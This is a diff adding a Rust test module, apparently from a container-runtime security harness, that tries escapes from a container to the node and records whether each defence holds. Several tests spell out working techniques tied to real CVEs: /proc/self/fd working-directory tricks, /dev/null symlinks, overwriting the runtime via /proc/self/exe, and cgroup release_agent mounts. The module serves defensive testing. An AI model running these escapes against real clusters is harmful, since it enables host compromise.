@@ -1,0 +1,566 @@
+//! From inside a container to the node: descriptors, stdio, processes, the kernel's files, devices, system calls.
+
+use serde_json::{Value, json};
+
+use super::world::{BASELINE, End, OPEN, RESTRICTED, World};
+use super::{Attack, Expect, POD, Pod, Target, Try, Verdict, judge, verdict};
+
+pub const ATTACKS: &[Attack] = &[
+    Attack {
+        id: "workdir-descriptor",
+        class: "inherited descriptor",
+        cves: &["CVE-2024-21626"],
+        how: "`workingDir: /proc/self/fd/N` for N from 3 to 22, as uid 1000 in a `restricted` namespace, then `../../..` and a file of the host",
+        held: "the child holds no descriptor of the host when it enters the directory, and the directory is proven to be below the root",
+        attempt: Try::Code(workdir_descriptor),
+    },
+    Attack {
+        id: "image-workdir-descriptor",
+        class: "inherited descriptor",
+        cves: &["CVE-2024-21626"],
+        how: "the same by the WORKDIR of an image, in a `baseline` namespace",
+        held: "as above: who names the directory makes no difference",
+        attempt: Try::Pod(Pod {
+            namespace: BASELINE,
+            image: "localhost/workdir-descriptor:1",
+            script: "cat ../../../../../../../../..@CANARY@; attack climb @CANARY@",
+            expect: Expect::HeldOrRefused,
+            ..POD
+        }),
+    },
+    Attack {
+        id: "workdir-symlink",
+        class: "inherited descriptor",
+        cves: &["CVE-2024-21626"],
+        how: "a working directory that is a symbolic link of the image to `/proc/self/fd/9`",
+        held: "as above: what counts is where the process is after chdir",
+        attempt: Try::Pod(Pod {
+            image: "localhost/workdir-descriptor:1",
+            container: "workingDir: /link",
+            script: "cat ../../../../../../../../..@CANARY@; attack climb @CANARY@",
+            expect: Expect::HeldOrRefused,
+            ..POD
+        }),
+    },
+    Attack {
+        id: "exec-descriptors",
+        class: "inherited descriptor",
+        cves: &["CVE-2016-9962", "CVE-2024-21626"],
+        how: "a container with SYS_PTRACE looks at `/proc/PID/{fd,cwd,root}` of every process that is exec'd into it, from its first moment on",
+        held: "a process that enters a container's PID namespace holds no descriptor, root or working directory of the host",
+        attempt: Try::Code(exec_descriptors),
+    },
+    Attack {
+        id: "trace-exec",
+        class: "inherited descriptor",
+        cves: &["CVE-2016-9962"],
+        how: "the same without SYS_PTRACE",
+        held: "until execve the runtime's child is not dumpable, so /proc/PID is root's, and nothing of the host is open",
+        attempt: Try::Code(trace_exec),
+    },
+    Attack {
+        id: "trace-newborn",
+        class: "inherited rights",
+        cves: &["CVE-2016-9962"],
+        how: "a container with SYS_PTRACE traces every process that is exec'd into it or probes it, and looks at its capabilities and filters from the first moment on",
+        held: "a process loads its filters and drops to its exact capabilities before it is born in the container's PID namespace",
+        attempt: Try::Code(trace_newborn),
+    },
+    Attack {
+        id: "stdin-link-descriptor",
+        class: "stdio",
+        cves: &["CVE-2025-31133"],
+        how: "`/dev/null` of the container is a link to `/proc/self/fd/N/../../..` and a file of the host; exec without stdin reads and writes its descriptor 0",
+        held: "stdio comes from outside: nothing in the container is opened for it",
+        attempt: Try::Code(stdin_link_descriptor),
+    },
+    Attack {
+        id: "stdin-link-agent",
+        class: "stdio",
+        cves: &["CVE-2025-31133"],
+        how: "with `hostPID`, `/dev/null` is a link to `/proc/AGENT/root` and a file of the host",
+        held: "as above",
+        attempt: Try::Code(stdin_link_agent),
+    },
+    Attack {
+        id: "stdin-link-rights",
+        class: "stdio",
+        cves: &[],
+        how: "uid 1000 puts a link to a file of root's for `/dev/null` into an emptyDir at `/dev`; exec without stdin reads its descriptor 0",
+        held: "nothing in a container is opened with more rights than the container has",
+        attempt: Try::Code(stdin_link_rights),
+    },
+    Attack {
+        id: "stdin-missing",
+        class: "stdio",
+        cves: &[],
+        how: "`/dev/null` is removed, then made a FIFO; exec without stdin lists its descriptors",
+        held: "a missing stdio is a null device from outside the container, opened beforehand; no other descriptor moves into its number",
+        attempt: Try::Code(stdin_missing),
+    },
+    Attack {
+        id: "own-descriptors",
+        class: "inherited descriptor",
+        cves: &["CVE-2024-21626", "CVE-2016-9962"],
+        how: "a first process lists its descriptors",
+        held: "all but 0, 1 and 2 are closed, by allow-list",
+        attempt: Try::Pod(Pod { container: "command: [attack, descriptors]", ..POD }),
+    },
+    Attack {
+        id: "rewrite-runtime",
+        class: "overwriting the runtime",
+        cves: &["CVE-2019-5736"],
+        how: "programs of the container are `#!/proc/self/exe`; while they are exec'd the container opens `/proc/PID/exe` of every process for writing",
+        held: "what of ours enters a container is a sealed memfd, and not dumpable",
+        attempt: Try::Code(rewrite_runtime),
+    },
+    Attack {
+        id: "climb",
+        class: "file system",
+        cves: &[],
+        how: "`..` from the root, from `/proc/1/{root,cwd}` and from all descriptors of the first process",
+        held: "the root is a mount namespace's own, entered by pivot_root, the old one unmounted",
+        attempt: Try::Pod(Pod { script: "attack climb @CANARY@", ..POD }),
+    },
+    Attack {
+        id: "chroot",
+        class: "file system",
+        cves: &[],
+        how: "chroot below the working directory and `..` from outside of it",
+        held: "as above: above the root of a mount namespace there is nothing",
+        attempt: Try::Pod(Pod { script: "attack chroot @CANARY@", ..POD }),
+    },
+    Attack {
+        id: "file-handles",
+        class: "file system",
+        cves: &[],
+        how: "files of the host opened by their number, through files that are bind-mounted from it (shocker)",
+        held: "CAP_DAC_READ_SEARCH is not in the default set, and seccomp allows the call with it alone",
+        attempt: Try::Pod(Pod { script: "attack handles / /etc/hosts /etc/hostname /dev/termination-log", ..POD }),
+    },
+    Attack {
+        id: "proc-writable",
+        class: "kernel files",
+        cves: &["CVE-2022-0811", "CVE-2017-16539", "CVE-2018-10892"],
+        how: "opens every file of /proc/sys, /proc/irq, /proc/bus, /proc/fs, /proc/acpi, /proc/scsi and /proc/sysrq-trigger for writing",
+        held: "they are mounted read-only, or masked",
+        attempt: Try::Pod(Pod {
+            script: "attack writable /proc/sys /proc/irq /proc/bus /proc/fs /proc/acpi /proc/scsi /proc/sysrq-trigger",
+            ..POD
+        }),
+    },
+    Attack {
+        id: "sys-writable",
+        class: "kernel files",
+        cves: &["CVE-2022-0492", "CVE-2023-25809"],
+        how: "opens every file of /sys, cgroups among them, for writing",
+        held: "sysfs and cgroup2 are mounted read-only",
+        attempt: Try::Pod(Pod { script: "attack writable /sys", ..POD }),
+    },
+    Attack {
+        id: "masked",
+        class: "kernel files",
+        cves: &["CVE-2018-10892", "CVE-2017-16539"],
+        how: "reads what Kubernetes masks: keys, memory, timers, firmware, power meters, thermal throttling",
+        held: "upstream's list is covered, by /dev/null of the host or an empty read-only tmpfs",
+        attempt: Try::Pod(Pod {
+            script: "attack empty /proc/acpi /proc/asound /proc/interrupts /proc/kcore /proc/keys /proc/latency_stats /proc/timer_list /proc/timer_stats /proc/sched_debug /proc/scsi /sys/firmware /sys/devices/virtual/powercap /sys/devices/system/cpu/cpu0/thermal_throttle /sys/devices/system/cpu/cpu1/thermal_throttle",
+            ..POD
+        }),
+    },
+    Attack {
+        id: "release-agent",
+        class: "kernel files",
+        cves: &["CVE-2022-0492"],
+        how: "mounts cgroup, in a user namespace too, to write a `release_agent`; and remounts /sys/fs/cgroup read-write",
+        held: "no CAP_SYS_ADMIN, and seccomp refuses mount and unshare",
+        attempt: Try::Pod(Pod {
+            script: "
+mkdir -p /tmp/cg
+for try in 'mount -t cgroup -o rdma cgroup /tmp/cg' 'mount -t cgroup2 none /tmp/cg' 'mount -o remount,rw /sys/fs/cgroup' 'unshare -UrmC mount -t cgroup -o memory none /tmp/cg' 'mount -o remount,rw /proc/sys' 'umount /proc/sys'; do
+  if $try 2>/tmp/why; then echo \"BREACH: $try\"; else echo \"held: $try: $(tail -n 1 /tmp/why)\"; fi
+done",
+            ..POD
+        }),
+    },
+    Attack {
+        id: "devices",
+        class: "devices",
+        cves: &[],
+        how: "makes the nodes of the host's devices (memory, disks, kvm, tun, fuse, loop) in /tmp, /dev and /dev/shm, and opens them",
+        held: "a program on the cgroup allows the container's devices alone",
+        attempt: Try::Pod(Pod { script: "attack devices", ..POD }),
+    },
+    Attack {
+        id: "system-calls",
+        class: "system calls",
+        cves: &["CVE-2022-0185", "CVE-2022-0492"],
+        how: "calls that RuntimeDefault refuses, with arguments that do nothing; the same with high bits set, by x32 and by the 32-bit entry",
+        held: "the filter compares as many bits as the kernel takes, and knows every table of the architecture",
+        attempt: Try::Pod(Pod { script: "attack syscalls", ..POD }),
+    },
+    Attack {
+        id: "system-calls-exec",
+        class: "system calls",
+        cves: &[],
+        how: "the same in a process that is exec'd",
+        held: "exec'd processes take the container's filter, capabilities and no_new_privs",
+        attempt: Try::Code(|world, target| inside_a_sleeper(world, target, POD, &["attack", "syscalls"])),
+    },
+    Attack {
+        id: "seccomp-empty-localhost",
+        class: "system calls",
+        cves: &["CVE-2023-2431"],
+        how: "a seccomp profile of type Localhost without a profile",
+        held: "refused by validation; a profile that is not there fails the Pod",
+        attempt: Try::Pod(Pod {
+            spec: "securityContext: {seccompProfile: {type: Localhost, localhostProfile: ''}}",
+            script: "grep Seccomp: /proc/self/status",
+            expect: Expect::Refused("seccomp"),
+            ..POD
+        }),
+    },
+    Attack {
+        id: "seccomp-path",
+        class: "system calls",
+        cves: &[],
+        how: "a Localhost profile whose path leads out of the folder of profiles",
+        held: "refused by validation",
+        attempt: Try::Pod(Pod {
+            spec: "securityContext: {seccompProfile: {type: Localhost, localhostProfile: '../../../..@CANARY@'}}",
+            expect: Expect::Refused("localhostProfile"),
+            ..POD
+        }),
+    },
+    Attack {
+        id: "capabilities",
+        class: "capabilities",
+        cves: &["CVE-2016-8867", "CVE-2022-24769", "CVE-2022-29162"],
+        how: "reads its inheritable and ambient capabilities, in the first process and in one that is exec'd, as root and as uid 1000",
+        held: "both sets are empty",
+        attempt: Try::Code(|world, target| {
+            let user = Pod { container: "securityContext: {runAsUser: 1000}", ..POD };
+            inside_a_sleeper(world, target, user, &["attack", "capabilities"])
+        }),
+    },
+    Attack {
+        id: "set-user-id",
+        class: "capabilities",
+        cves: &[],
+        how: "a program of the image with the set-user-ID bit, in a `restricted` namespace",
+        held: "no_new_privs, by `allowPrivilegeEscalation: false`",
+        attempt: Try::Pod(Pod {
+            namespace: RESTRICTED,
+            image: "localhost/set-user-id:1",
+            container: "securityContext: {runAsUser: 1000}",
+            script: "ls -l /bin/suid; /bin/suid identity",
+            ..POD
+        }),
+    },
+    Attack {
+        id: "join-pause",
+        class: "processes",
+        cves: &[],
+        how: "with `shareProcessNamespace`: joins the namespaces of `pause`, reads its root and memory, takes its descriptors",
+        held: "no CAP_SYS_ADMIN or CAP_SYS_PTRACE; the root of `pause` is an empty tmpfs",
+        attempt: Try::Pod(Pod {
+            spec: "shareProcessNamespace: true",
+            script: "attack join 1; attack meddle 1; attack climb @CANARY@",
+            ..POD
+        }),
+    },
+    Attack {
+        id: "join-pause-same-user",
+        class: "processes",
+        cves: &[],
+        how: "the same as the user that `pause` is, for whom no capability is needed",
+        held: "nobody may read the program of `pause`, so it is closed to inspection; it has a filter, a device program, no files",
+        attempt: Try::Pod(Pod {
+            spec: "shareProcessNamespace: true",
+            container: "securityContext: {runAsUser: 65535, runAsGroup: 65535}",
+            script: "attack join 1; attack meddle 1; attack climb @CANARY@",
+            ..POD
+        }),
+    },
+    Attack {
+        id: "host-pid",
+        class: "processes",
+        cves: &[],
+        how: "with `hostPID`, as root: joins the namespaces of the agent and of PID 1, traces them, reads their roots, takes their descriptors",
+        held: "default capabilities lack SYS_PTRACE and SYS_ADMIN",
+        attempt: Try::Code(|world, target| {
+            let agent = world.node.pid().to_string();
+            let script = format!("for p in 1 {agent}; do attack join $p; attack meddle $p; done");
+            let mut pod = world.pod(target, &Pod { spec: "hostPID: true", ..POD });
+            pod["spec"]["containers"][0]["command"] = json!(["sh", "-c", script]);
+            judged(target, world.run_to_the_end(&pod))
+        }),
+    },
+    Attack {
+        id: "terminal-console",
+        class: "devices",
+        cves: &["CVE-2025-52565"],
+        how: "with a terminal and a volume at `/dev`: `/dev/console` is a link to a file of the root; `/dev/console` and `/dev/pts` of the image are links into /proc",
+        held: "the console is mounted on what is found inside the root, without following links, and proven to be the pty",
+        attempt: Try::Pod(Pod {
+            image: "localhost/console-link:1",
+            spec: "{volumes: [{name: v, emptyDir: {}}], initContainers: [{name: i, image: 'localhost/attack:1', volumeMounts: [{name: v, mountPath: /v}], command: [ln, -s, /console-target, /v/console]}]}",
+            container: "{tty: true, volumeMounts: [{name: v, mountPath: /dev}]}",
+            script: "test -c /console-target && echo BREACH: the console was mounted through a link; attack writable /proc/sys /proc/sysrq-trigger; attack climb @CANARY@",
+            expect: Expect::HeldOrRefused,
+            ..POD
+        }),
+    },
+    Attack {
+        id: "probe-output",
+        class: "exhaustion",
+        cves: &["CVE-2022-31030", "CVE-2022-1708"],
+        how: "a probe whose command prints without end",
+        held: "of a probe's output only the first part is kept",
+        attempt: Try::Code(probe_output),
+    },
+    Attack {
+        id: "process-bomb-exec",
+        class: "exhaustion",
+        cves: &["CVE-2022-23471", "CVE-2025-64329"],
+        how: "thirty execs whose clients vanish; the agent's descriptors before and after",
+        held: "a session ends with its stream, and takes its process and descriptors with it",
+        attempt: Try::Code(abandoned_execs),
+    },
+];
+
+const SLEEP: &str = "sleep 1000";
+
+/// What a process says that is exec'd into a container that sleeps.
+fn inside_a_sleeper(world: &World, target: &Target, pod: Pod, command: &[&str]) -> Verdict {
+    match world.start_pod(target, &Pod { script: SLEEP, ..pod }) {
+        Err(why) => Verdict::Untried(why),
+        Ok(()) => judge(target, &world.inside(target, pod.namespace, command)),
+    }
+}
+
+fn judged(target: &Target, end: End) -> Verdict {
+    match end {
+        End::Said(said) => judge(target, &said),
+        End::Refused(why) => Verdict::Untried(why),
+    }
+}
+
+/// Where the child's descriptors of the host may be.
+const NUMBERS: std::ops::Range<u32> = 3..23;
+
+fn workdir_descriptor(world: &World, target: &Target) -> Verdict {
+    let pod = Pod { namespace: RESTRICTED, spec: "securityContext: {runAsUser: 1000}", ..POD };
+    let mut object =
+        world.pod(target, &Pod { script: "cat ../../../../../../../../..@CANARY@; attack climb @CANARY@", ..pod });
+    let template = object["spec"]["containers"][0].clone();
+    let containers = NUMBERS.map(|n| {
+        let mut container = template.clone();
+        container["name"] = json!(format!("c{n}"));
+        container["workingDir"] = json!(format!("/proc/self/fd/{n}"));
+        container
+    });
+    object["spec"]["containers"] = containers.collect();
+    if let Err(why) = world.create("pods", pod.namespace, object) {
+        return Verdict::Held(why);
+    }
+    // Those that do not start have nothing to say; each must have come to an end.
+    let ended = |status: &Value| {
+        let all = status["containerStatuses"].as_array().map_or(&[][..], Vec::as_slice);
+        all.len() == NUMBERS.len()
+            && all
+                .iter()
+                .all(|c| c["state"]["running"].is_null() && c["state"]["waiting"]["reason"] != "ContainerCreating")
+    };
+    crate::support::eventually("all containers have been tried", super::PATIENCE, || {
+        let pod = world.get("pods", pod.namespace, target.id).unwrap_or_default();
+        if ended(&pod["status"]) { Ok(()) } else { Err(pod["status"].to_string()) }
+    });
+    let mut said = world.get("pods", pod.namespace, target.id).unwrap_or_default()["status"].to_string();
+    for n in NUMBERS {
+        said.push_str(&world.node.run(&["-n", pod.namespace, "logs", target.id, "-c", &format!("c{n}")]).out);
+    }
+    world.delete("pods", pod.namespace, target.id);
+    match judge(target, &said) {
+        Verdict::Untried(_) => Verdict::Held("no container started".into()),
+        other => other,
+    }
+}
+
+fn exec_descriptors(world: &World, target: &Target) -> Verdict {
+    scan_while_execing(world, target, "securityContext: {capabilities: {add: [SYS_PTRACE]}}")
+}
+
+fn trace_exec(world: &World, target: &Target) -> Verdict {
+    scan_while_execing(world, target, "")
+}
+
+fn trace_newborn(world: &World, target: &Target) -> Verdict {
+    let container = "{securityContext: {capabilities: {add: [SYS_PTRACE]}, seccompProfile: {type: RuntimeDefault}},
+        readinessProbe: {exec: {command: [\"true\"]}, periodSeconds: 1}}";
+    let pod = Pod { container, script: "attack newborn 6000; sleep 1000", ..POD };
+    if let Err(why) = world.start_pod(target, &pod) {
+        return Verdict::Untried(why);
+    }
+    exec_until_said(world, target)
+}
+
+fn scan_while_execing(world: &World, target: &Target, container: &'static str) -> Verdict {
+    let pod = Pod { container, script: "attack scan @CANARY@ 6000; sleep 1000", ..POD };
+    if let Err(why) = world.start_pod(target, &pod) {
+        return Verdict::Untried(why);
+    }
+    exec_until_said(world, target)
+}
+
+/// Processes enter the container until it has said what it saw of them.
+fn exec_until_said(world: &World, target: &Target) -> Verdict {
+    let begin = std::time::Instant::now();
+    loop {
+        // What is itself may go on for ever.
+        let itself = world.node.talk(&["-n", OPEN, "exec", target.id, "--", "/bin/self"]);
+        world.inside(target, OPEN, &["true"]);
+        drop(itself);
+        match judge(target, &world.logs(target, OPEN)) {
+            Verdict::Untried(said) if begin.elapsed() > super::PATIENCE => return Verdict::Untried(said),
+            Verdict::Untried(_) => {}
+            other => return other,
+        }
+    }
+}
+
+fn rewrite_runtime(world: &World, target: &Target) -> Verdict {
+    let shim = std::env::var("PODWRIGHT_SHIM").ok().map(|path| (std::fs::read(&path).unwrap_or_default(), path));
+    let script = "printf '#!/proc/self/exe\\n' > /bin/self; chmod 755 /bin/self; attack rewrite 5000; sleep 1000";
+    let pod = Pod { container: "securityContext: {capabilities: {add: [SYS_PTRACE]}}", script, ..POD };
+    if let Err(why) = world.start_pod(target, &pod) {
+        return Verdict::Untried(why);
+    }
+    let seen = exec_until_said(world, target);
+    match shim {
+        Some((before, path)) if std::fs::read(&path).unwrap_or_default() != before => {
+            Verdict::Breach(format!("{path} is not what it was"))
+        }
+        _ => seen,
+    }
+}
+
+/// What a process finds at its descriptor 0; what it writes there must reach nothing.
+const AT_ZERO: &str = "head -c 200 <&0; echo overwritten >&0; readlink /proc/self/fd/0";
+
+fn stdin_link_descriptor(world: &World, target: &Target) -> Verdict {
+    if let Err(why) = world.start_pod(target, &Pod { script: SLEEP, ..POD }) {
+        return Verdict::Untried(why);
+    }
+    for n in NUMBERS {
+        let to = format!("/proc/self/fd/{n}/../../../../../../../../..{}", target.canary.display());
+        world.inside(target, OPEN, &["sh", "-c", &format!("rm -f /dev/null; ln -s {to} /dev/null")]);
+        let said = world.inside(target, OPEN, &["sh", "-c", AT_ZERO]);
+        if said.contains(&target.text) || said.contains("socket:") {
+            return Verdict::Breach(format!("through descriptor {n}: {said}"));
+        }
+        if !said.contains("/null") && !said.contains("pipe:") {
+            return Verdict::Untried(said);
+        }
+    }
+    Verdict::Held("descriptor 0 was a null device from outside all the time".into())
+}
+
+fn stdin_link_agent(world: &World, target: &Target) -> Verdict {
+    if let Err(why) = world.start_pod(target, &Pod { spec: "hostPID: true", script: SLEEP, ..POD }) {
+        return Verdict::Untried(why);
+    }
+    let to = format!("/proc/{}/root{}", world.node.pid(), target.canary.display());
+    world.inside(target, OPEN, &["sh", "-c", &format!("rm -f /dev/null; ln -s {to} /dev/null")]);
+    let said = world.inside(target, OPEN, &["sh", "-c", AT_ZERO]);
+    verdict(!said.contains(&target.text) && said.contains("/null\n"), said)
+}
+
+fn stdin_link_rights(world: &World, target: &Target) -> Verdict {
+    let pod = Pod {
+        image: "localhost/root-file:1",
+        spec: "{securityContext: {runAsUser: 1000}, volumes: [{name: d, emptyDir: {}}]}",
+        container: "volumeMounts: [{name: d, mountPath: /dev}]",
+        script: "rm -f /dev/null; ln -s /root-only /dev/null; ls -l /dev/null; sleep 1000",
+        ..POD
+    };
+    if let Err(why) = world.start_pod(target, &pod) {
+        return Verdict::Held(format!("refused: {why}"));
+    }
+    crate::support::eventually("the link is there", super::PATIENCE, || {
+        let said = world.logs(target, OPEN);
+        if said.contains("/dev/null") { Ok(()) } else { Err(said) }
+    });
+    let said = world.inside(target, OPEN, &["sh", "-c", AT_ZERO]);
+    verdict(!said.contains("for root alone"), said)
+}
+
+fn stdin_missing(world: &World, target: &Target) -> Verdict {
+    if let Err(why) = world.start_pod(target, &Pod { script: SLEEP, ..POD }) {
+        return Verdict::Untried(why);
+    }
+    let mut all = String::new();
+    for spoil in [
+        "rm -f /dev/null",
+        "mkfifo /dev/null",
+        "rm -f /dev/null; mkdir /dev/null",
+        "rmdir /dev/null; mknod /dev/null c 1 5",
+    ] {
+        world.inside(target, OPEN, &["sh", "-c", spoil]);
+        let begin = std::time::Instant::now();
+        let said = world.inside(target, OPEN, &["attack", "descriptors"]);
+        if begin.elapsed() > std::time::Duration::from_secs(10) {
+            return Verdict::Breach(format!("after {spoil:?} exec hangs: {said}"));
+        }
+        match judge(target, &said) {
+            Verdict::Held(seen) if seen.contains("descriptor 0 is") => all = seen,
+            other => return Verdict::Breach(format!("after {spoil:?}: {other:?}")),
+        }
+    }
+    Verdict::Held(all)
+}
+
+/// Resident memory of the node's process in MiB.
+fn memory(world: &World) -> u64 {
+    let status = std::fs::read_to_string(format!("/proc/{}/status", world.node.pid())).unwrap();
+    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).unwrap();
+    line.split_whitespace().next().unwrap().parse::<u64>().unwrap() / 1024
+}
+
+fn probe_output(world: &World, target: &Target) -> Verdict {
+    let before = memory(world);
+    let pod = Pod {
+        container: "readinessProbe: {exec: {command: [sh, -c, 'head -c 50000000 /dev/zero; touch /probed']}, timeoutSeconds: 20}",
+        script: SLEEP,
+        ..POD
+    };
+    if let Err(why) = world.start_pod(target, &pod) {
+        return Verdict::Untried(why);
+    }
+    let mut most = before;
+    // Its probe runs again and again meanwhile, whether it is in time or not.
+    let end = std::time::Instant::now() + std::time::Duration::from_secs(15);
+    while std::time::Instant::now() < end {
+        most = most.max(memory(world));
+        world.get("pods", OPEN, target.id).unwrap_or_default();
+    }
+    verdict(most < before + 40, format!("{before} MiB before, {most} MiB at most"))
+}
+
+fn abandoned_execs(world: &World, target: &Target) -> Verdict {
+    if let Err(why) = world.start_pod(target, &Pod { script: SLEEP, ..POD }) {
+        return Verdict::Untried(why);
+    }
+    for _ in 0..30 {
+        let mut talk = world.node.talk(&["-n", OPEN, "exec", "-i", target.id, "--", "sh", "-c", "echo up; exec cat"]);
+        talk.hear("up");
+        talk.say("x");
+        // Killed, not ended: it says goodbye to nobody.
+        drop(talk);
+    }
+    crate::support::eventually("the processes are gone", super::PATIENCE, || {
+        let said = world.inside(target, OPEN, &["sh", "-c", "ps -o args | grep -c '^[c]at'"]);
+        if said.contains("\n0\n") { Ok(()) } else { Err(said) }
+    });
+    Verdict::Held("no process of an abandoned session is left".into())
+}
